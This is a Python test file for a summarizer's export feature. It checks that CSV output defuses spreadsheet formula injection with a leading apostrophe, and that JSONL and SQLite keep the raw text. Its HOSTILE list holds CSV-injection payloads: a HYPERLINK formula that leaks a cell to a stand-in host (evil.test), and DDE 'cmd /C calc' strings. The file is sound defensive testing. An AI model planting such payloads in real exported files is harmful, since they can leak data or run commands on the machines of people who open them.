"""`summarizer export --format csv`: text a spreadsheet would run as a formula is made inert with a
leading apostrophe (OWASP's CSV-injection remedy); JSONL and SQLite keep the exact text."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pytest

from summarizer.export import tables, write_csv, write_jsonl, write_sqlite
from summarizer.schemas import ArticleMeta, Briefing, MergedStatement, SourceRef, Speaker

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["He said = nothing", "a-b", "'already quoted", "100% sure"]


def _briefing(texts: list[str]) -> Briefing:
    return Briefing(
        articles=[ArticleMeta(id="a1", title=texts[0], outlet="@outlet")],
        statements=[
            MergedStatement(id=f"s{i}", speaker=Speaker(name="=Smith"), text=text, kind="direct",
                            sources=[SourceRef(article_id="a1", text=text, spans=[(0, 5)])])
            for i, text in enumerate(texts)
        ],
    )


def _csv_rows(folder: Path, table: str) -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_that_would_run_as_formulas_get_an_apostrophe(tmp_path: Path) -> None:
    data = tables(_briefing(HOSTILE + HARMLESS))
    write_csv(data, tmp_path)
    statements = _csv_rows(tmp_path, "statements")
    texts = [row["text"] for row in statements]
    assert texts == ["'" + text for text in HOSTILE] + HARMLESS
    assert {row["speaker_name"] for row in statements} == {"'=Smith"}
    sources = _csv_rows(tmp_path, "sources")
    assert [row["text"] for row in sources] == texts
    # Numbers and JSON spans are not text a spreadsheet runs: they stay as they are.
    assert {row["source_count"] for row in statements} == {"1"}
    assert {row["spans"] for row in sources} == {"[[0, 5]]"}
    articles = _csv_rows(tmp_path, "articles")
    assert articles[0]["title"] == "'" + HOSTILE[0] and articles[0]["outlet"] == "'@outlet"


@pytest.mark.parametrize("text", HOSTILE)
def test_jsonl_and_sqlite_keep_the_exact_text(tmp_path: Path, text: str) -> None:
    data = tables(_briefing([text]))
    write_jsonl(data, tmp_path)
    write_sqlite(data, tmp_path / "db.sqlite")
    line = (tmp_path / "statements.jsonl").read_text(encoding="utf-8").splitlines()[0]
    assert json.loads(line)["text"] == text
    with sqlite3.connect(tmp_path / "db.sqlite") as db:
        assert db.execute("SELECT text FROM statements").fetchone()[0] == text
        assert db.execute("SELECT speaker_name FROM statements").fetchone()[0] == "=Smith"
